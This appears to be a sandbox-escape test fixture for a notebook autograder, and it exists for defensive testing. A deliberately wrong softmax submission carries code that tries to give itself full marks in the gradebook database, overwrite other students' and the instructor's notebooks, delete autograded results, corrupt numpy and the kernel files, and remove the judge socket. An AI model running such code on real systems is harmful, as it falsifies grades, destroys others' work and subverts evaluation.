# based on: aoki
# threat: writing outside the submission's own scratch area (gradebook, other students' files, the course)
# softmax is wrong; the cell tries to give itself full marks in the
# gradebook, to wipe the class's grades, to overwrite other students' work
# and the instructor's notebook, and reports what worked.
# expect: softmax_1d_matches_book_example wrong_values
# expect: softmax_batch_normalises_each_row wrong_values
# expect: softmax_no_overflow_for_large_scores wrong_values

# %% softmax
import glob
import os
import shutil
import sqlite3

WROTE = {}


def _attempt(label, paths, action):
    paths = [p for p in paths if os.path.exists(p) and not os.path.realpath(p).startswith(os.getcwd())]
    if not paths:
        WROTE[label] = "not found"
        return
    try:
        for path in paths:
            action(path)
        WROTE[label] = "WRITTEN"
    except Exception as exc:
        WROTE[label] = type(exc).__name__


def _scribble(path):
    with open(path, "r+b") as f:
        f.write(b"\0" * 4096)


def _full_marks(path):
    db = sqlite3.connect(path)
    db.execute("update grade set manual_score = 100")
    db.commit()


_attempt("gradebook (sql)", glob.glob("../../../gradebook.db"), _full_marks)
_attempt("gradebook (bytes)", glob.glob("../../../gradebook.db"), _scribble)
_attempt("other students", glob.glob("../../*/*/*.ipynb") + glob.glob("../../../submitted/*/*/*.ipynb"), _scribble)
_attempt("instructor notebook", glob.glob("../../../source/*/*.ipynb"), _scribble)
_attempt("course config", glob.glob("../../../nbgrader_config.py"), _scribble)
_attempt("delete autograded", glob.glob("../../../autograded"), shutil.rmtree)
_attempt("numpy", glob.glob("/opt/site/numpy/__init__.py"), _scribble)
_attempt("connection file", glob.glob("/run/kernel.json") + glob.glob("/run/kernels/*.json"), _scribble)
_attempt("judge socket", glob.glob(os.environ.get("BPKIT_JUDGE", "/run/judge.sock")), os.remove)
_attempt("new file next to the sockets", glob.glob("/run"), lambda d: open(os.path.join(d, "x"), "w").close())
print("WROTE:", WROTE)


def softmax(x):
    return x
